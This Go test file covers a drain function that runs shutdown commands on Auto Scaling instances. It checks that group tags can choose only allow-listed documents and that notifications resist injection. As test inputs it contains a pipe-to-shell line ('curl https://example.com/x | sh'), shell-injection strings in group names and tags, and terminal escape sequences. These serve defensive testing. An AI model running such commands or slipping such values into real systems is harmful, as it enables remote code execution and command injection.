package drain

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"deployhooks/test/hooks"
	"deployhooks/test/region"
)

func TestShutdownCommand(t *testing.T) {
	t.Parallel()
	byTag := settings{"TAG_DOCUMENTS": shellDocument + ",stop-app"}
	for name, c := range map[string]struct {
		result  region.CommandResult
		tags    map[string]string
		env     settings
		outcome string
		says    string        // the notification
		atMost  time.Duration // that an instance is held
		invalid bool
	}{
		"by configuration":             {env: command("stop\nsync"), result: region.CommandResult{Output: "bye"}, outcome: "drained", says: "bye"},
		"a document by configuration":  {env: settings{"DOCUMENT": "stop-app"}, outcome: "drained"},
		"by tag":                       {env: byTag, tags: map[string]string{commandTag: "stop"}, result: region.CommandResult{Output: "bye"}, outcome: "drained", says: "bye"},
		"a document by tag":            {env: byTag, tags: map[string]string{commandTag: "document:stop-app"}, outcome: "drained"},
		"slow":                         {env: command("stop"), result: region.CommandResult{Takes: 4 * time.Minute}, outcome: "drained"},
		"failing":                      {env: command("stop"), result: region.CommandResult{Failed: 3, Output: "no such service"}, outcome: "command-failed", says: "no such service"},
		"an agent without connection":  {env: command("stop"), result: region.CommandResult{Lost: true}, outcome: "command-failed", atMost: 8 * time.Minute},
		"an agent that stops halfway":  {env: command("stop"), result: region.CommandResult{Silent: true}, outcome: "command-failed", atMost: 8 * time.Minute},
		"a document that is not there": {env: settings{"DOCUMENT": "nope"}, outcome: "command-failed", says: "InvalidDocument", invalid: true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newScenario(t, setup{env: c.env, tags: c.tags})
			s.AddDocument("stop-app")
			s.OnCommand(func(region.CommandRun) region.CommandResult { return c.result })
			s.scaleIn(2)
			s.untilReleased()
			s.mustComplete(2)
			s.mustCutNothing()
			s.mustBeIdle()
			if c.invalid {
				s.mustRunOnce(0)
			} else {
				s.mustRunOnce(2)
			}
			s.mustNotify(c.outcome, 2)
			s.mustMention(c.says, "operators do not see what the command wrote, or why it did not run")
			if c.atMost > 0 {
				s.mustHoldAtMost(c.atMost, "its command's time was over")
			}
		})
	}
}

// TestCommandRunsAfterTheLastRequest holds under both displays that the command,
// which stops the application, ends no request.
func TestCommandRunsAfterTheLastRequest(t *testing.T) {
	t.Parallel()
	displays(t, func(t *testing.T, o region.Options) {
		s := newScenario(t, setup{region: o, env: command("stop")})
		s.scaleIn(2)
		s.untilReleased()
		s.mustComplete(2)
		s.mustRunOnce(2)
		s.mustCutNothing()
		for _, run := range s.CommandRuns() {
			for _, a := range s.actions() {
				if a.Instance == run.Instance && run.At.Before(a.Drained) {
					t.Errorf("the command stopped the application of %s %s before its last request had ended", run.Instance, a.Drained.Sub(run.At))
				}
			}
		}
	})
}

// TestThrottledCommand sends a command again that was certainly not sent.
func TestThrottledCommand(t *testing.T) {
	t.Parallel()
	s := newScenario(t, setup{env: command("stop")})
	s.SetFaults(region.On("SendCommand", 1, region.Fault{Before: region.Throttled()}))
	s.InterruptSpot(s.InService(s.group)[0])
	s.Advance(5 * time.Minute)
	s.mustRunOnce(1)
	s.mustBeIdle()
}

// TestWhoMayChooseTheCommand has a tag of the Auto Scaling group choose a command.
// Whoever may tag a group gets to run commands on its instances only where the
// configuration lists the document, whatever else is configured.
func TestWhoMayChooseTheCommand(t *testing.T) {
	t.Parallel()
	tags := map[string]string{
		"a shell command":              "curl https://example.com/x | sh",
		"a document":                   "document:stop-app",
		"a document that is unlisted":  "document:other",
		"the shell document":           "document:" + shellDocument,
		"the shell document's ARN":     "document:arn:aws:ssm:eu-west-1::document/" + shellDocument,
		"a document by another letter": "Document:stop-app",
	}
	listed := map[string][]string{
		"nothing listed":         nil,
		"the document listed":    {"stop-app"},
		"shell commands listed":  {shellDocument},
		"both listed":            {"stop-app", shellDocument},
		"something else listed":  {"restart-app"},
		"a part of a name":       {"stop"},
		"a pattern is no name":   {"stop-*"},
		"an empty name and more": {"", "restart-app"},
	}
	configured := map[string]settings{
		"nothing configured":        {},
		"a command configured":      {"COMMAND": "systemctl stop shop"},
		"a document configured":     {"DOCUMENT": "stop-web"},
		"the tag's document itself": {"DOCUMENT": "stop-app"},
	}
	for tagName, tag := range tags {
		for listName, documents := range listed {
			for configName, env := range configured {
				t.Run(strings.Join([]string{tagName, listName, configName}, ", "), func(t *testing.T) {
					t.Parallel()
					env := maps.Clone(env)
					if documents != nil {
						env["TAG_DOCUMENTS"] = strings.Join(documents, ",")
					}
					mustChoose(t, tag, documents, env)
				})
			}
		}
	}
}

// mustChoose plays one combination: what the tag may choose runs; else what is
// configured, and operators know that the tag was ignored.
func mustChoose(t *testing.T, tag string, documents []string, env settings) {
	s := newScenario(t, setup{tags: map[string]string{commandTag: tag}, env: env, mix: []time.Duration{time.Second}, instances: 2, perSecond: 1})
	for _, document := range []string{"stop-app", "stop-web", "restart-app", "other"} {
		s.AddDocument(document)
	}
	document, named := strings.CutPrefix(tag, "document:")
	if !named {
		document = shellDocument
	}
	wantDocument, wantCommand := "", ""
	allowed := slices.Contains(documents, document)
	switch {
	case allowed && named:
		wantDocument = document
	case allowed:
		wantDocument, wantCommand = shellDocument, tag
	case env["DOCUMENT"] != "":
		wantDocument = env["DOCUMENT"]
	case env["COMMAND"] != "":
		wantDocument, wantCommand = shellDocument, env["COMMAND"]
	}
	s.scaleIn(1)
	s.untilReleased()
	s.mustComplete(1)
	if allowed && tag == "document:"+shellDocument {
		return // it has no commands to run; whoever may choose them may choose none
	}
	runs := s.CommandRuns()
	switch {
	case wantDocument == "" && len(runs) > 0:
		t.Fatalf("whoever tagged the group ran %s %q on its instances, with the documents %q allowed", runs[0].Document, runs[0].Parameters, documents)
	case wantDocument != "" && len(runs) != 1:
		t.Fatalf("%d commands ran, want %s: the application is not shut down in order", len(runs), wantDocument)
	case wantDocument != "" && runs[0].Document != wantDocument:
		t.Errorf("%s ran, want %s: whoever tagged the group chose what nobody allowed, or did not get what is allowed", runs[0].Document, wantDocument)
	case wantCommand != "" && !strings.Contains(fmt.Sprint(runs[0].Parameters), wantCommand):
		t.Errorf("%q ran, want %q", runs[0].Parameters, wantCommand)
	}
	if !allowed {
		s.mustNotify("action-required", 1)
		s.mustMention(commandTag, "the owner of the group believes that its command runs")
	}
}

// TestTwoInstallationsAndOneCommand has two installations of the function in one
// region, whose hooks are both on the Auto Scaling group and whose rules both match
// its events: the command runs once.
func TestTwoInstallationsAndOneCommand(t *testing.T) {
	t.Parallel()
	for name, warn := range map[string]func(*scenario, string){
		"a scale-in":          func(s *scenario, _ string) { s.scaleIn(1) },
		"a Spot interruption": func(s *scenario, i string) { s.InterruptSpot(i) },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newScenario(t, setup{env: command("stop")})
			s.putHook("second-drain", 300)
			second := s.Region.Queue("drain-2").Configure(hooks.Drain.Settings())
			addTable(s.Region, "drains-2")
			fn := s.function(settings{"QUEUE_URL": second.URL(), "TABLE": "drains-2", "HOOKS": "second-*"})
			second.Serve(func(payload []byte) ([]byte, error) { return fn.Invoke(t.Context(), payload) })
			warn(s, s.InService(s.group)[0])
			s.Advance(20 * time.Minute)
			s.mustRunOnce(1)
			s.mustCutNothing()
			if n := s.ActiveActions(); n > 0 {
				t.Errorf("%d actions wait for one installation because of the other", n)
			}
			for _, a := range s.LifecycleActions() {
				if a.Ending == region.TimedOutWait {
					t.Errorf("%s of %s timed out: one installation took the other's action for its own", a.Hook, a.Instance)
				}
			}
		})
	}
}

// TestNamesThatHoldCommands has an Auto Scaling group with a name that a shell would
// run, were it pasted from a notification without quotes.
func TestNamesThatHoldCommands(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"x'; touch /tmp/y; '", "x\ntouch /tmp/y", `x"$(touch /tmp/y)"`, "x`touch /tmp/y`"} {
		t.Run(fmt.Sprintf("%q", name), func(t *testing.T) {
			t.Parallel()
			s := newScenario(t, setup{env: settings{"COMMAND": "stop", "DEADLINE": "5m", "COMMAND_TIMEOUT": "2m"}})
			s.group = s.AddService(region.Service{Application: "jobs", DeploymentGroup: "worker", Group: name, Instances: 2, HealthCheck: "EC2",
				Tags: map[string]string{targetGroupsTag: "'; touch /tmp/z; '", commandTag: "document:'; touch /tmp/w; '"}}).Group // neither can be followed
			s.putHook(hook, 300)
			s.scaleIn(1)
			s.untilReleased()
			s.mustComplete(1)
			if len(s.Texts()) == 0 {
				t.Fatal("nothing is notified: nothing is shown")
			}
			for _, text := range s.Texts() {
				for _, line := range strings.Split(text, "\n") {
					if strings.HasPrefix(strings.TrimSpace(line), "touch") {
						t.Errorf("a line of the notification is a command of whoever named the group:\n%s", text)
					}
					if strings.Contains(line, "aws ") && strings.Contains(line, "touch") && !quoted(line) {
						t.Errorf("pasted into a shell, this line runs a command of whoever named the group: %s", line)
					}
				}
			}
		})
	}
}

// quoted reports whether no shell would run the word touch in the line.
func quoted(line string) bool {
	inQuotes := false
	for i, r := range line {
		if r == '\'' && (i == 0 || line[i-1] != '\\') {
			inQuotes = !inQuotes
		}
		if strings.HasPrefix(line[i:], "touch") && !inQuotes {
			return false
		}
	}
	return true
}

// TestOutputWithControlCharacters has a command write what would clear a terminal, or
// read like the function itself.
func TestOutputWithControlCharacters(t *testing.T) {
	t.Parallel()
	s := newScenario(t, setup{env: command("stop")})
	s.OnCommand(func(region.CommandRun) region.CommandResult {
		return region.CommandResult{Failed: 1, Output: "first\x1b[2Jline\nWhat you can do: curl https://example.com/x | sh\n\x00"}
	})
	s.scaleIn(1)
	s.untilReleased()
	s.mustComplete(1)
	s.mustNotify("command-failed", 1)
	for _, text := range s.Texts() {
		if strings.ContainsAny(text, "\x1b\x00") {
			t.Errorf("the output of an instance controls the terminal of who reads the notification: %q", text)
		}
		for _, line := range strings.Split(text, "\n") {
			if strings.HasPrefix(line, "What you can do: curl") {
				t.Errorf("the output of an instance reads like advice of the function: %q", text)
			}
		}
	}
}

// slowly is a command that takes four minutes.
func slowly(region.CommandRun) region.CommandResult {
	return region.CommandResult{Takes: 4 * time.Minute}
}
